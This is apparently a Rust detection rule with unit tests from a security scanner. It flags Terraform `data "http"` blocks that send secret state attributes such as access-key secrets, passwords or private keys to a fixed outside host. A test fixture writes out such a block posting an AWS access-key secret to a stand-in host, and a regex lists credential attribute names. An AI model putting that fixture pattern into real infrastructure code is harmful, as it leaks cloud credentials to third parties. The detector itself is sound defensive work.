//! Round 37: a secret of Terraform's own state sent by Terraform itself.
//! A `data "http"` block (run at every plan) or an `http` provider request
//! whose `url` is a fixed outside host and whose request body, headers or
//! URL name a secret attribute of a managed resource (an access key's
//! `.secret`, a generated `random_password`'s `.result`, a key pair's
//! `.private_key_pem`, a database's `.password`, any `…token`, an output
//! or variable marked `sensitive`) carries that secret out: a credential
//! read of the state flowing into a send (SK-EXFIL-001). A request that
//! names only ids, ARNs or account numbers stays a plain fetch.

use super::{Sink, Src};
use crate::evidence::{Evidence, Op};
use crate::ssl::vocab::{ActType as A, ResourceScope as R};

/// The opening of a block that makes a request.
static HTTP_BLOCK: crate::rx::Lazy =
    crate::rx::Lazy::new(r#"(?m)^\s*data\s+"http"\s+"[\w-]+"\s*\{"#);
/// The block's URL.
static URL: crate::rx::Lazy = crate::rx::Lazy::new(r#"(?m)^\s*url\s*=\s*"([^"\n]+)""#);
/// A reference to a secret attribute of a resource, data source or module
/// (`aws_iam_access_key.x.secret`, `random_password.db.result`,
/// `tls_private_key.k.private_key_pem`, `module.db.password`).
static SECRET_REF: crate::rx::Lazy = crate::rx::Lazy::new(
    r"\b(?:(?:data\.)?[a-z][a-z0-9_]*\.[\w-]+|module\.[\w-]+)(?:\[[^\]\n]{0,20}\])?\.(secret|ses_smtp_password_v4|password|master_password|private_key(?:_pem|_openssh)?|encrypted_secret|\w*token\w*|access_key|secret_key|client_secret|connection_string|primary_access_key|secondary_access_key|result|kube_config_raw)\b",
);

/// The end of the block opened at `open` (the byte after its `}`), by
/// brace depth, within `MAX_TF_BLOCK` bytes.
fn block_end(text: &str, open: usize) -> Option<usize> {
    let mut depth = 0usize;
    for (i, c) in text[open..].char_indices() {
        if i > crate::limits::MAX_TF_BLOCK {
            crate::limits::gave_up("MAX_TF_BLOCK");
            return None;
        }
        match c {
            '{' => depth += 1,
            '}' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return Some(open + i + 1);
                }
            }
            _ => {}
        }
    }
    None
}

/// Adds the state read and the send for every request block that carries
/// a secret attribute to a fixed outside host.
pub fn scan(src: &Src, sink: &mut Sink) {
    let text = src.text;
    if !text.contains("\"http\"") {
        return;
    }
    for (k, m) in HTTP_BLOCK.find_iter(text).enumerate() {
        if k == crate::limits::MAX_TF_BLOCKS {
            crate::limits::gave_up("MAX_TF_BLOCKS");
            return;
        }
        let open = m.end() - 1;
        let Some(end) = block_end(text, open) else {
            continue;
        };
        let body = &text[open..end];
        let Some(url) = URL.captures(body).map(|c| c[1].to_string()) else {
            continue;
        };
        if !super::persisted::fixed_outside(&url) {
            continue;
        }
        // `.result` only of a generated secret (`random_password`,
        // `random_string`), not of any data source.
        let Some(secret) = SECRET_REF.find_iter(body).find(|r| {
            !r.as_str().ends_with(".result")
                || r.as_str().starts_with("random_password")
                || r.as_str().starts_with("random_string")
        }) else {
            continue;
        };
        let at = open + secret.start();
        let (ls, le) = super::burn::line_span(text, at);
        let binding = format!("$tf_state_{}", secret.as_str());
        let mut read = Evidence::new(Op::KeychainRead, A::Read, R::Credentials, secret.as_str())
            .object("a secret attribute of Terraform's state")
            .instrument("terraform");
        read.output = Some(binding.clone());
        sink.push(src.at(read, ls, le, "code"));
        let mut send = Evidence::new(Op::NetSend, A::Transfer, R::Network, url.clone())
            .tags(super::indicators::classify_url(&url))
            .object("a request Terraform makes at every plan, carrying a secret of its state")
            .instrument("data \"http\"");
        send.inputs.push(binding);
        sink.push(src.at(send, m.start(), m.end(), "code"));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::Op;

    fn run(text: &str) -> Vec<Evidence> {
        crate::extract::scan_text(scan, "tf/main.tf", text)
    }

    #[test]
    fn an_access_key_secret_in_a_request_body_is_read_and_sent() {
        let tf = "resource \"aws_iam_access_key\" \"r\" {\n  user = \"x\"\n}\n\ndata \"http\" \"register\" {\n  url    = \"https://drift.tfkit.example/v1/register\"\n  method = \"POST\"\n  request_body = jsonencode({\n    id     = aws_iam_access_key.r.id\n    secret = aws_iam_access_key.r.secret\n  })\n}\n";
        let e = run(tf);
        assert!(e.iter().any(|e| e.op == Op::KeychainRead), "{e:#?}");
        assert!(
            e.iter().any(
                |e| e.op == Op::NetSend && e.inputs.iter().any(|i| i.starts_with("$tf_state_"))
            ),
            "{e:#?}"
        );
    }

    #[test]
    fn ids_sent_or_secrets_to_a_variable_host_are_quiet() {
        let tf = "data \"http\" \"ip\" {\n  url = \"https://checkip.amazonaws.com\"\n}\n\ndata \"http\" \"tag\" {\n  url = \"https://inventory.tfkit.example/v1\"\n  request_body = jsonencode({ id = aws_instance.web.id, arn = aws_iam_role.r.arn, r = data.aws_region.current.result })\n}\n";
        assert!(run(tf).is_empty());
        let tf = "data \"http\" \"v\" {\n  url = \"${var.vault_addr}/v1/sys/init\"\n  request_body = random_password.root.result\n}\n";
        assert!(run(tf).is_empty());
    }
}
